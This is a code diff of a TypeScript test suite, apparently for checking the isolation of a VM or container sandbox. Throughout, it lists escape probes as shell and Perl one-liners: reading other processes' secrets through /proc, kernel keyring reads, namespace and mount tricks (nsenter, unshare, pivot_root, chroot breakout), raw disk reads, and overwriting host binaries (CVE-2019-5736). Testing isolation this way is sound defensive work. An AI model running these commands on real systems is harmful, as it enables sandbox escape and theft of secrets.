@@ -1,7 +1,14 @@
-import { agent, FIND_TASKD, FIND_VICTIM } from "./agent.ts";
+import { agent, FIND_TASKD, FIND_VICTIM, onControl } from "./agent.ts";
 
 const HEX = "-An -v -tx1 -N64";
 const PLAIN = "| tr -d ' \\n'";
+
+/** On the control nothing of /run is seen any more: only what the attack gains shows it. */
+const WHERE_HIDDEN = (attack: string) => onControl("unshare -m", "mount -t tmpfs x /run", attack);
+
+/** What makes a child in namespaces of its own (`$p` is 0 in it), from nobody's hands: that child can mount only by what it got. */
+const inNestedUsers = (clone: string) =>
+  `perl -e 'syscall(117, 65534, 65534, 65534); ${clone}; if ($p == 0) { syscall(165, (my $s1 = "/run/piwork/workspace/other"), (my $s2 = "/mnt"), 0, 4096, 0); open(F, "<", "/mnt/secret.txt") and print <F>; exit } wait'`;
 
 /** What is mounted where, namespaces, and the kernel's own files. */
 export const mounts = [
@@ -15,8 +22,8 @@ export const mounts = [
     ["any-cwd", "looks through the working directory of every process", "cat /proc/[0-9]*/cwd/secret.txt"],
     [
       "map-files",
-      "reads what any process has mapped",
-      `${FIND_VICTIM}; cat /proc/$v/map_files/* | head -c 1 >/dev/null; cat /proc/$v/root/tmp/secret`,
+      "reads a file without a name that another's process has mapped",
+      `perl -e 'for (glob "/proc/[0-9]*/map_files/*") { (readlink) =~ m(^/tmp/unnamed) or next; open(F, "<", $_) and print <F> }'`,
     ],
     ["environ", "reads the environment of every process", "cat /proc/[0-9]*/environ", { invariant: "S" }],
     ["cmdline", "reads the arguments of every process", "cat /proc/[0-9]*/cmdline", { invariant: "S" }],
@@ -42,15 +49,15 @@ export const mounts = [
     ["iomem", "asks where the kernel lies in memory", "grep 'Kernel code' /proc/iomem"],
     [
       "masked-path",
-      "reads below what is covered (CVE-2025-31133)",
-      "ln -s /dev/null n; umount /proc/sys; umount /proc/kcore; cat /proc/sys/../1/root/run/piwork/secret",
+      "takes away what covers a file of the kernel (CVE-2025-31133)",
+      onControl(
+        "unshare -m",
+        "mount --bind /dev/null /proc/kcore",
+        `umount /proc/kcore; od ${HEX} -j64 /proc/kcore ${PLAIN}`,
+      ),
     ],
     ["disk", "reads the machine's disk", `od ${HEX} -j1024 /dev/vda ${PLAIN}`],
-    [
-      "disk-by-number",
-      "finds the machine's disk by its number",
-      `od ${HEX} -j1024 /dev/block/254:0 ${PLAIN}; od ${HEX} -j1024 /proc/1/root/dev/vda ${PLAIN}`,
-    ],
+    ["disk-by-root", "reads the machine's disk through another root", `od ${HEX} -j1024 /proc/1/root/dev/vda ${PLAIN}`],
     [
       "mountinfo",
       "reads names in the mounts of every process",
@@ -65,8 +72,8 @@ export const mounts = [
     ],
     [
       "keys",
-      "reads the keys in the kernel",
-      'cat /proc/keys; perl -e \'$k = syscall(250, 10, -4, (my $s3 = "user"), (my $s4 = "piwork"), 0); $b = "\\0" x 64; syscall(250, 11, $k, $b, 64); print $b\'',
+      "finds keys in the kernel's list and reads them",
+      `perl -e 'open(K, "<", "/proc/keys"); for (<K>) { /^(\\w+) .* user +piwork/ or next; $b = "\\0" x 64; syscall(250, 11, hex $1, $b, 64); print $b }'`,
       { invariant: "S" },
     ],
   ]),
@@ -79,7 +86,8 @@ export const mounts = [
     [
       "share",
       "mounts the share of the host itself",
-      "mkdir /tmp/m; mount -t 9p -o trans=virtio,version=9p2000.L workspace /tmp/m; cat /tmp/m/other/secret.txt; umount /tmp/m; mount --bind /run/piwork/workspace /tmp/m && cat /tmp/m/other/secret.txt && umount /tmp/m; rmdir /tmp/m",
+      "mkdir /tmp/m; mount -t 9p -o trans=virtio,version=9p2000.L workspace /tmp/m && cat /tmp/m/other/secret.txt; umount /tmp/m; rmdir /tmp/m",
+      { dead: "a share is mounted once: the machine holds it, and QEMU's device refuses a second" },
     ],
     [
       "tree",
@@ -97,14 +105,9 @@ export const mounts = [
       "mkdir /tmp/m; mount -t proc proc /tmp/m; cat /tmp/m/1/root/run/piwork/secret; umount /tmp/m; rmdir /tmp/m",
     ],
     [
-      "disk",
-      "mounts the machine's disk",
-      "mkdir /tmp/m; mount -o ro /dev/vda /tmp/m; od -An -v -tx1 -j1024 -N64 /dev/vda | tr -d ' \\n'; umount /tmp/m; rmdir /tmp/m",
-    ],
-    [
       "umount",
       "takes mounts away to see what is below",
-      "umount -l /work /outputs; cd /; cat /run/piwork/workspace/other/secret.txt; cat /work/../run/piwork/secret",
+      WHERE_HIDDEN("umount -l /work /outputs /uploads /home/task /run /proc; cat /run/piwork/secret"),
     ],
     [
       "nested-user",
@@ -113,15 +116,15 @@ export const mounts = [
     ],
     [
       "nested-clone",
-      "makes a user namespace by clone",
-      "perl -e '$p = syscall(56, 0x10020011, 0, 0, 0, 0); if ($p == 0) { system(\"cat /run/piwork/secret\"); exit } wait'",
+      "makes a user namespace by clone, and mounts in it",
+      inNestedUsers("$p = syscall(56, 0x10020011, 0, 0, 0, 0)"),
     ],
     [
       "nested-clone3",
-      "makes a user namespace by clone3",
-      'perl -e \'$a = pack("Q11", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0); $p = syscall(435, $a, 88); if ($p == 0) { system("cat /run/piwork/secret"); exit } wait\'',
+      "makes a user namespace by clone3, and mounts in it",
+      inNestedUsers('$a = pack("Q11", 0x10020000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0); $p = syscall(435, $a, 88)'),
     ],
-    ["setns-init", "joins the mounts of the first process", "nsenter -t 1 -m cat /run/piwork/secret"],
+    ["setns-init", "joins the mounts of the first process", WHERE_HIDDEN("nsenter -t 1 -m cat /run/piwork/secret")],
     [
       "setns-any",
       "joins the mounts of another's process",
@@ -130,17 +133,19 @@ export const mounts = [
     [
       "setns-pidfd",
       "joins all namespaces of a process at once",
-      'perl -e \'$fd = syscall(434, 1, 0); syscall(308, $fd, 0x20000); open(F, "<", "/run/piwork/secret"); print <F>\'',
+      WHERE_HIDDEN(
+        `perl -e '$fd = syscall(434, 1, 0); exit if $fd < 0; syscall(308, $fd, 0x4c020000) == 0 or exit; open(F, "<", "/run/piwork/secret") and print <F>'`,
+      ),
     ],
     [
       "pivot-root",
       "takes another root",
-      "mkdir -p /tmp/m; unshare -m sh -c 'mount --bind / /tmp/m && cd /tmp/m && pivot_root . mnt; cat /mnt/run/piwork/secret /run/piwork/secret'; rmdir /tmp/m",
+      'for n in "unshare -m" "unshare -Urm"; do mkdir -p /tmp/m; $n sh -c "mount --bind /run/piwork /tmp/m; cd /tmp/m; pivot_root . slots; read -r line </secret && echo \\$line"; done; rmdir /tmp/m',
     ],
     [
       "chroot",
       "breaks out of a root of its own",
-      'mkdir -p d; perl -e \'opendir(D, "."); chroot("d"); chdir(D); chdir("..") for 1..20; chroot("."); open(F, "<", "run/piwork/secret"); print <F>\'',
+      'mkdir d; perl -e \'opendir(D, "."); chroot("d"); exit if -e "/run/piwork"; chdir(D); chdir("..") for 1..20; open(F, "<", "run/piwork/secret") and print <F>\'',
     ],
     [
       "handle",
@@ -151,16 +156,6 @@ export const mounts = [
       "handle-guessed",
       "guesses the handle of a file in /tmp",
       'perl -e \'open(D, "<", "/tmp"); $h = pack("Ii", 128, 0) . "\\0" x 128; $m = pack("i", 0); syscall(303, -100, (my $s2 = "/tmp/secret"), $h, $m, 0); $fd = syscall(304, fileno(D), $h, 0); exit if $fd < 0; open(F, "<&=", $fd); print <F>\'',
-    ],
-    [
-      "overlay",
-      "makes the kernel load a file system for it",
-      "mkdir m; unshare -Urm mount -t tmpfs x m; cat /proc/1/root/run/piwork/secret",
-    ],
-    [
-      "loop",
-      "reads the machine's disk through a loop device",
-      "losetup -f; od -An -v -tx1 -j1024 -N64 /dev/loop0 | tr -d ' \\n'; od -An -v -tx1 -j1024 -N64 /dev/vda | tr -d ' \\n'",
     ],
   ]),
   ...agent("mounts", "W", [
@@ -173,20 +168,20 @@ export const mounts = [
     [
       "remounted",
       "makes its uploads writable",
-      "mount -o remount,rw,bind /uploads; d=/uploads; [ -e $d/upload.txt ] || d=$(echo /run/piwork/tasks/attacker*/guest/uploads); touch $d/new",
+      "u=/uploads; [ -e $u/upload.txt ] || { u=/tmp/u; mkdir $u; mount --bind /run/piwork/tasks/attacker*/guest/uploads $u; mount -o remount,ro,bind $u; }; mount -o remount,rw,bind $u; touch $u/new; [ $u = /uploads ] || { umount $u; rmdir $u; }",
     ],
     [
       "attribute",
       "changes what a mount allows",
-      'perl -e \'$a = pack("QQQQ", 0, 1, 0, 0); syscall(442, -100, (my $s2 = "/run"), 0, $a, 32)\'; mount -o remount,exec,suid /run',
+      `perl -e '$a = pack("QQQQ", 0, 2, 0, 0); syscall(442, -100, (my $s2 = "/run"), 0, $a, 32)'`,
       { oracle: "guest-change", undo: "mount -o remount,nosuid,nodev /run" },
     ],
     [
       "own-binary",
       "overwrites the program that runs it (CVE-2019-5736)",
-      "echo x >>/proc/1/exe; for d in /usr/lib/piwork /run/piwork; do echo x >$d/new; done",
-      { oracle: "guest-change" },
+      "for p in /proc/[0-9]*/exe; do echo x >>$p; done",
+      { oracle: "guest-change", dead: "the machine's programs lie on a file system that cannot be written" },
     ],
-    ["etc", "writes into /etc", "echo x >>/etc/hosts; mount -t tmpfs x /etc", { oracle: "guest-change" }],
+    ["etc", "covers /etc with its own", "mount -t tmpfs x /etc && echo x >/etc/hosts", { oracle: "guest-change" }],
   ]),
 ];
